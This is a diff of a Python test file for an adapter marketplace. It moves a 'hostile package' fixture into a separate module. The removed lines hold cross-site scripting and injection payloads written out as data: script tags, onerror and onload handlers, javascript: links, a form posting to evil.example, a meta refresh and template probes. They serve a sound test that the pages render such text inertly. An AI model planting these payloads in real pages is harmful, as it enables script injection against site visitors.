@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import json
 import uuid
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import quote
 
@@ -15,6 +15,7 @@ from market_service import ask, new_challenge, serving
 from sqlalchemy import create_engine, text
 
 from evidence._gate_cases import bad_cases
+from evidence._market_packages import attacking
 from evidence._postgres_cluster import NoPostgresError, running_cluster
 from tensafe.errors import GateRefusedError, KeyStoreError, MarketplaceError, UsageError
 from tensafe.marketplace import publish, pull, search, yank
@@ -310,36 +311,12 @@ def test_pages_that_are_not_there(url: str, path: str) -> None:
     assert "Back to all adapters" in answer.text
 
 
-HOSTILE = """# <script>document.title='owned'</script>
-
-<img src=x onerror="document.title='owned'"> <iframe src="javascript:alert(1)"></iframe>
-
-[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>)
-![track](https://tracker.example/pixel.png) [ok](https://example.org/a "t")
-
-<style>body{display:none}</style> <form action="https://evil.example"><input name=p></form>
-
-| a | b |
-|---|---|
-| <svg/onload=alert(1)> | `</code><script>x</script>` |
-
-{{ 7*7 }} {% raw %} </div></section><meta http-equiv=refresh content="0;url=//evil">
-"""
-
-
-def hostile(make: Callable[..., Path], folder: Path, signer: KeyPair) -> Path:
-    """A package whose every text attacks the page, and that the gate has nothing against."""
-    attack = "\"><script>document.title='owned'</script><img src=x onerror=alert(1)>"
-    return make(
-        folder, "hostile", signer, description="Greets.", domain=attack, body=HOSTILE,
-        title="hostile",
-    )  # fmt: skip
-
-
 def test_a_hostile_package_is_only_text_on_the_page(
     url: str, shelf: Shelf, ada: KeyPair, tmp_path: Path
 ) -> None:
-    publish(hostile(shelf.put, tmp_path, ada), url, signer=ada)
+    package = tmp_path / "hostile.tgsp"
+    package.write_bytes(attacking(shelf.trained.data, ada))
+    publish(package, url, signer=ada)
     publish(shelf.put(tmp_path, "sorter", ada), url, signer=ada)
     for path in ("/", "/packages/hostile", "/compare?item=hostile&item=sorter", "/creators/ada"):
         answer = httpx.get(f"{url}{path}")
